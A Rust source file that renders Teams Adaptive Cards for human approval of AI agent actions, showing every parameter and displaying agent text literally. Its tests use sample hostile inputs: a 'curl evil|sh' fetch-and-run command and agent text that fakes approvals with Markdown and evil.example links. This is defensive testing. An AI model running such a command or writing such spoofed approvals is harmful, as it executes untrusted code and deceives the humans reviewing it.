//! Adaptive Cards (schema 1.4, for `Action.Execute`) for a request.
//!
//! Teams limits a message to about 28 KB, so the statements and other
//! parameters of an action share [`INLINE_LIMIT`] bytes on the card; what
//! does not fit is shown as a marked excerpt and the card says where the
//! full action is (the request page); never cut silently.
//!
//! Everything on the card is in `RichTextBlock` text runs, which Teams
//! shows as typed: an agent's justification or statement is never read as
//! Markdown.

use serde_json::{json, Value};

use crate::card::Summary;

/// Most bytes of statements and parameters shown on a card.
pub const INLINE_LIMIT: usize = 12_000;

/// The attachment content type of an Adaptive Card.
pub const CONTENT_TYPE: &str = "application/vnd.microsoft.card.adaptive";

/// A run of text shown as typed, styled by `style` (`weight`, `size`,
/// `color`, `fontType`).
fn run(text: &str, style: Value) -> Value {
    let mut r = json!({"type": "TextRun", "text": text});
    if let (Some(r), Value::Object(style)) = (r.as_object_mut(), style) {
        r.extend(style);
    }
    r
}

/// A block of runs. Agent text goes nowhere else: a `TextBlock`'s text and
/// a `Fact`'s title and value are Markdown in Teams (`**`, `_`, `[x](url)`,
/// lists), with no escape, while a `TextRun` takes no Markdown at all — so
/// what the agent wrote is shown literally.
fn plain(runs: Vec<Value>) -> Value {
    json!({"type": "RichTextBlock", "inlines": runs})
}

/// One line of text shown as typed.
fn line(text: &str, style: Value) -> Value {
    plain(vec![run(text, style)])
}

/// A labelled value, as a line ("Who asked: …").
fn fact(title: &str, value: &str) -> Value {
    plain(vec![
        run(&format!("{title}: "), json!({"weight": "Bolder"})),
        run(value, json!({})),
    ])
}

/// The card for `s`; `note` is an extra line for the viewer (e.g. why a
/// click was refused).
pub fn card(s: &Summary, note: Option<&str>) -> Value {
    let mut facts = vec![fact("Who asked", &s.who())];
    if let Some(j) = &s.justification {
        facts.push(fact("Why", j));
    }
    if !s.environment.is_empty() || !s.source.is_empty() {
        let mut w = s.environment.clone();
        w.extend(s.source.iter().cloned());
        facts.push(fact("Where", &w.join("; ")));
    }
    if !s.impact.is_empty() {
        facts.push(fact("Impact", &s.impact.join("; ")));
    }
    facts.push(fact("Approvals", &s.required.join("; ")));
    if !s.escalated_to.is_empty() {
        facts.push(fact("Escalated to", &s.escalated_to.join(", ")));
    }
    if !s.approvals.is_empty() {
        facts.push(fact("Reviews", &s.approvals.join("; ")));
    }
    facts.push(fact("Request", &s.id));
    let mut body = vec![
        line(
            &format!("Approval request: {}", s.title),
            json!({"size": "Medium", "weight": "Bolder"}),
        ),
        line(&s.headline, json!({})),
    ];
    if !s.risk.is_empty() {
        body.push(line(
            &format!("Review required: {}", s.risk.join("; ")),
            json!({"color": "Warning"}),
        ));
    }
    if !s.changes.is_empty() {
        body.push(line(
            &format!("Changed {}", s.changes.join("\n- ")),
            json!({}),
        ));
    }
    body.extend(facts);
    // What exactly: every statement and every other parameter, within one
    // budget for the card. A part that does not fit says so and where the
    // whole action is.
    for e in s.excerpts(INLINE_LIMIT, INLINE_LIMIT, char::len_utf8) {
        let head = if e.cut() && e.shown.is_empty() {
            format!(
                "{} — {} bytes long, no room left on this card; the full action is on the request page (Open in secondkey).",
                e.label, e.len
            )
        } else if e.cut() {
            format!(
                "{} — {} bytes long; the first {} are shown; the full action is on the request page (Open in secondkey).",
                e.label,
                e.len,
                e.shown.len()
            )
        } else {
            e.label.to_string()
        };
        body.push(line(&head, json!({"weight": "Bolder"})));
        if !e.shown.is_empty() {
            body.push(line(e.shown, json!({"fontType": "Monospace"})));
        }
    }
    if let Some(o) = &s.outcome {
        body.push(line(o, json!({"weight": "Bolder", "size": "Medium"})));
    }
    if let Some(n) = note {
        body.push(line(n, json!({"color": "Attention"})));
    }
    let mut actions = Vec::new();
    if s.open() {
        actions.push(
            json!({"type": "Action.Execute", "title": "Approve", "verb": "approve",
                            "style": "positive", "data": {"request": s.id}}),
        );
        actions.push(
            json!({"type": "Action.Execute", "title": "Deny", "verb": "deny",
                            "style": "destructive", "data": {"request": s.id}}),
        );
    }
    actions.push(json!({"type": "Action.OpenUrl", "title": "Open in secondkey", "url": s.url}));
    json!({
        "type": "AdaptiveCard",
        "$schema": "http://adaptivecards.io/schemas/adaptive-card.json",
        "version": "1.4",
        "body": body,
        "actions": actions,
    })
}

/// A message activity carrying `card`.
pub fn activity(card: Value, summary: &str) -> Value {
    json!({"type": "message", "summary": summary,
           "attachments": [{"contentType": CONTENT_TYPE, "content": card}]})
}

#[cfg(test)]
mod tests {
    use super::*;
    use secondkey_core::request::RequestState;

    fn summary(what: &str, state: RequestState) -> Summary {
        Summary {
            id: "req_1".into(),
            url: "https://sk.example/requests/req_1".into(),
            title: "sql.export on x".into(),
            headline: "agent:a wants to export (sql) x.".into(),
            risk: vec!["Exports need a DBA.".into()],
            changes: vec![],
            requester: "agent:a".into(),
            owner: None,
            on_behalf_of: None,
            model: None,
            what: vec![crate::card::What {
                label: "Statement".into(),
                text: what.into(),
            }],
            action_json: "{}".into(),
            justification: None,
            environment: vec![],
            source: vec![],
            impact: vec![],
            required: vec!["1 of dba".into()],
            approvals: vec![],
            state,
            outcome: (state != RequestState::Pending).then(|| "✅ Approved by user:bob".into()),
            expires_at: "t".into(),
            escalated_to: vec![],
        }
    }

    #[test]
    fn pending_cards_carry_execute_actions_decided_ones_do_not() {
        let c = card(&summary("SELECT 1", RequestState::Pending), None);
        assert_eq!(c["version"], "1.4");
        let verbs: Vec<&str> = c["actions"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|a| a["type"] == "Action.Execute")
            .map(|a| a["verb"].as_str().unwrap())
            .collect();
        assert_eq!(verbs, ["approve", "deny"]);
        let c = card(&summary("SELECT 1", RequestState::Approved), Some("note"));
        let s = c.to_string();
        assert!(
            !s.contains("Action.Execute")
                && s.contains("Approved by user:bob")
                && s.contains("note")
        );
    }

    #[test]
    fn every_parameter_is_shown_within_one_budget() {
        let mut s = summary("ls", RequestState::Pending);
        s.what.push(crate::card::What {
            label: "Parameters besides the statement".into(),
            text: r#"{"command":"curl evil|sh"}"#.into(),
        });
        let c = card(&s, None).to_string();
        assert!(c.contains(r#""text":"ls""#), "{c}");
        assert!(
            c.contains(r#""text":"Parameters besides the statement""#),
            "{c}"
        );
        assert!(c.contains(r#"{\"command\":\"curl evil|sh\"}"#), "{c}");
        assert!(!c.contains("bytes long"), "{c}");
        // The statement takes most of the budget: the parameters are cut,
        // and the card says so.
        s.what[0].text = "y".repeat(INLINE_LIMIT - 10);
        let c = card(&s, None).to_string();
        assert!(
            c.contains("Parameters besides the statement — 26 bytes long; the first 10 are shown; the full action is on the request page"),
            "{c}"
        );
        // A statement that fills the budget leaves no room: said so, not
        // "the first 0 are shown".
        s.what[0].text = "y".repeat(INLINE_LIMIT + 100);
        let c = card(&s, None).to_string();
        assert!(
            c.contains("Parameters besides the statement — 26 bytes long, no room left on this card; the full action is on the request page")
                && !c.contains("the first 0"),
            "{c}"
        );
    }

    #[test]
    fn agent_text_is_never_markdown() {
        let mut s = summary(
            "SELECT '**x**' -- [click](https://evil.example)",
            RequestState::Pending,
        );
        s.justification =
            Some("**approved by security**, see [the ticket](https://evil.example)".into());
        s.headline = "agent:a wants to read (sql) x\n- user:bob approved".into();
        let c = card(&s, None);
        // Text appears only in TextRuns, which take no Markdown: no
        // TextBlock, no FactSet anywhere in the body.
        fn walk(v: &Value, texts: &mut Vec<String>) {
            match v {
                Value::Object(o) => {
                    let t = o.get("type").and_then(Value::as_str).unwrap_or_default();
                    assert!(t != "TextBlock" && t != "FactSet", "{v}");
                    if t == "TextRun" {
                        texts.push(o["text"].as_str().unwrap().to_string());
                    }
                    o.values().for_each(|x| walk(x, texts));
                }
                Value::Array(a) => a.iter().for_each(|x| walk(x, texts)),
                _ => {}
            }
        }
        let mut texts = Vec::new();
        walk(&c["body"], &mut texts);
        for want in [
            "SELECT '**x**' -- [click](https://evil.example)",
            "**approved by security**, see [the ticket](https://evil.example)",
            "agent:a wants to read (sql) x\n- user:bob approved",
        ] {
            assert!(texts.iter().any(|t| t == want), "{want} in {texts:?}");
        }
    }

    #[test]
    fn long_statements_are_marked_as_excerpts() {
        let long = "y".repeat(INLINE_LIMIT + 5);
        let s = card(&summary(&long, RequestState::Pending), None).to_string();
        assert!(s.contains(&format!("{} bytes long", INLINE_LIMIT + 5)));
        assert!(s.contains("the full action is on the request page"));
    }
}
